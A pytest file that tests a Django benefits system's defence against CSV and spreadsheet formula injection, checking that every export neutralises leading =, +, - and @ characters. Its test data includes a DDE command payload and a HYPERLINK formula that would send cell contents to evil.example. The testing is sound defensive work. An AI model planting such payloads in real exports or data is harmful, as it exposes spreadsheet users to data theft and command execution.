"""The formula-safe export writer (reemployment.core.exports): the rule, each export, and that no
export bypasses it."""

import ast
import csv
import datetime as dt
import io
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from reemployment.core.exports import CsvWriter, append_row, safe_cell


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=HYPERLINK(\"http://x\",\"点我\")", "'=HYPERLINK(\"http://x\",\"点我\")"),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-12.50", "-12.50"),  # a plain number written as text is not a formula
        ("+86", "+86"),
        ("张三", "张三"),
        ("a=b", "a=b"),  # only the first character matters
        ("", ""),
        (Decimal("-3.00"), Decimal("-3.00")),  # typed numbers stay typed
        (None, None),
    ],
)
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


def test_csv_writer_neutralises_every_cell_and_writes_bom():
    buffer = io.StringIO()
    writer = CsvWriter(buffer, bom=True)
    writer.writerow(["=cmd|' /C calc'!A0", "李四", Decimal("12.00")])
    text = buffer.getvalue()
    assert text.startswith("\ufeff")
    assert next(csv.reader(io.StringIO(text[1:]))) == ["'=cmd|' /C calc'!A0", "李四", "12.00"]


def test_xlsx_rows_are_text_not_formulas():
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("s")
    append_row(sheet, ["=1+1", "@A1", Decimal("5.00")])
    out = io.BytesIO()
    workbook.save(out)
    cells = [cell for cell in next(load_workbook(io.BytesIO(out.getvalue())).active.iter_rows())]
    assert [cell.value for cell in cells[:2]] == ["'=1+1", "'@A1"]
    assert all(cell.data_type != "f" for cell in cells)
    assert cells[2].value == 5


# ---------------------------------------------------------------- every export uses the writer
#
# A name or bank name typed by community staff as a formula reaches county exports; in each export it
# must come out as text (an apostrophe first), never as a formula.

EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"点我")'
NEUTRALISED = "'" + EVIL


def _xlsx_values(content: bytes) -> list:
    workbook = load_workbook(io.BytesIO(content))
    values = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"formula cell {cell.coordinate}: {cell.value!r}"
                values.append(cell.value)
    return values


def _csv_values(text: str) -> list:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


@pytest.fixture
def evil_run(regions):
    """A payroll run whose household head is called EVIL and whose bank name is EVIL."""
    from benefits.payroll.services import payroll_run_compute
    from tests.benefits.payroll.factories import make_enrolment, make_household

    household = make_household(regions["comm_a1"])
    household.bank_name = "+" + EVIL  # a leading + is a formula too
    household.save()
    head = household.members.get()
    head.name = EVIL
    head.save()
    make_enrolment(household)
    return payroll_run_compute(actor="system:test", county=regions["county"], month=dt.date(2026, 5, 1)).run


@pytest.mark.django_db
def test_bank_file_csv_neutralises_names_and_bank_names(evil_run):
    from benefits.payroll import exports

    values = _csv_values(exports.csv_bytes(evil_run).decode("utf-8"))
    assert NEUTRALISED in values and "'+" + EVIL in values
    assert EVIL not in values


@pytest.mark.django_db
def test_bank_file_xlsx_neutralises_names_and_bank_names(evil_run):
    from benefits.payroll import exports

    values = _xlsx_values(exports.xlsx_bytes(evil_run))
    assert NEUTRALISED in values and "'+" + EVIL in values
    assert EVIL not in values


def _evil_tables():
    from benefits.checks.reports import Table

    return [Table(key="t", title="表", headers=["乡镇", "户数", "金额"], rows=[[EVIL, 3, Decimal("-12.50")]],
                  note="")]


def test_check_report_csv_neutralises_cells():
    from benefits.checks.reports import export_csv

    values = _csv_values(export_csv(_evil_tables(), title="@title").decode("utf-8-sig"))
    assert NEUTRALISED in values and "'@title" in values and EVIL not in values
    assert "-12.50" in values  # a negative amount stays a number


def test_check_report_xlsx_neutralises_cells():
    from benefits.checks.reports import export_xlsx

    values = _xlsx_values(export_xlsx(_evil_tables(), title="t"))
    assert NEUTRALISED in values and EVIL not in values
    assert -12.5 in values  # still a number


@pytest.mark.django_db
def test_cadre_relative_report_neutralises_names(regions):
    from benefits.integrity.models import CadreRelative
    from benefits.integrity.selectors import cadre_report_xlsx
    from tests.benefits.payroll.factories import make_household

    household = make_household(regions["comm_a1"])
    member = household.members.get()
    member.name = EVIL
    member.save()
    CadreRelative.objects.create(cadre_name="-" + EVIL, cadre_post="@post", cadre_unit=EVIL, member=member,
                                 relation="sibling", registered_on=dt.date(2026, 1, 2))
    content, count = cadre_report_xlsx(CadreRelative.objects.all(), "备案表")
    values = _xlsx_values(content)
    assert count == 1
    assert NEUTRALISED in values and "'-" + EVIL in values and "'@post" in values
    assert EVIL not in values


def test_training_xlsx_neutralises_cells():
    from training.admin_views import xlsx_response

    response = xlsx_response("x.xlsx", "s", ["课程", "机构"], [[EVIL, "+" + EVIL]], money_columns=())
    values = _xlsx_values(response.content)
    assert NEUTRALISED in values and "'+" + EVIL in values and EVIL not in values


def _simulation_report():
    change = {"household_id": 1, "number": "H1", "community": EVIL, "area": "urban", "persons": 2,
              "current_category": "C", "draft_category": "B", "current_amount": "100.00", "draft_amount": "150.00",
              "difference": "-50.00"}
    return {"county": "341125", "month": "2026-05", "changes": [change]}


def test_policy_simulation_csv_neutralises_cells():
    from benefits.simulation_admin import PolicySimulationViewSet

    response = PolicySimulationViewSet()._csv(_simulation_report())
    values = _csv_values(response.content.decode("utf-8"))
    assert NEUTRALISED in values and EVIL not in values
    assert "-50.00" in values


def test_simulate_policy_command_csv_neutralises_cells(tmp_path):
    from benefits.management.commands.simulate_policy import Command

    target = tmp_path / "changes.csv"
    Command()._write_csv(target, _simulation_report()["changes"])
    values = _csv_values(target.read_text(encoding="utf-8-sig"))
    assert NEUTRALISED in values and EVIL not in values


# ---------------------------------------------------------------- no export bypasses the writer

ROOT = Path(__file__).resolve().parents[2]
CODE_DIRS = ("reemployment", "benefits", "jobs", "training", "incentives", "cms")
WRITER_MODULE = ROOT / "reemployment" / "core" / "exports.py"


def _bypasses(path: Path, root: Path = ROOT) -> list[str]:
    """Calls of csv.writer / csv.DictWriter, and ``.append(...)`` on a name that holds an openpyxl
    worksheet (``sheet``/``ws``/``worksheet``) or on ``workbook.active`` — outside the one writer."""
    found = []
    for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
        if not isinstance(node, ast.Call) or not isinstance(node.func, ast.Attribute):
            continue
        func = node.func
        if isinstance(func.value, ast.Name) and func.value.id == "csv" and func.attr in {"writer", "DictWriter"}:
            found.append(f"{path.relative_to(root)}:{node.lineno} csv.{func.attr}")
        if func.attr == "append" and (
            (isinstance(func.value, ast.Name) and func.value.id in {"sheet", "ws", "worksheet"})
            or (isinstance(func.value, ast.Attribute) and func.value.attr == "active")
        ):
            found.append(f"{path.relative_to(root)}:{node.lineno} {ast.unparse(func)}")
    return found


def test_no_export_bypasses_the_formula_safe_writer():
    files = [p for d in CODE_DIRS for p in (ROOT / d).rglob("*.py") if p != WRITER_MODULE and "migrations" not in p.parts]
    assert len(files) > 100
    bypasses = [hit for path in files for hit in _bypasses(path)]
    assert not bypasses, "use reemployment.core.exports (CsvWriter, CsvDictWriter, append_row):\n" + "\n".join(bypasses)


def test_the_bypass_check_finds_a_bypass(tmp_path):
    sample = tmp_path / "x.py"
    sample.write_text("import csv\nw = csv.writer(f)\nsheet.append([1])\nworkbook.active.append([2])\n")
    assert len(_bypasses(sample, tmp_path)) == 3
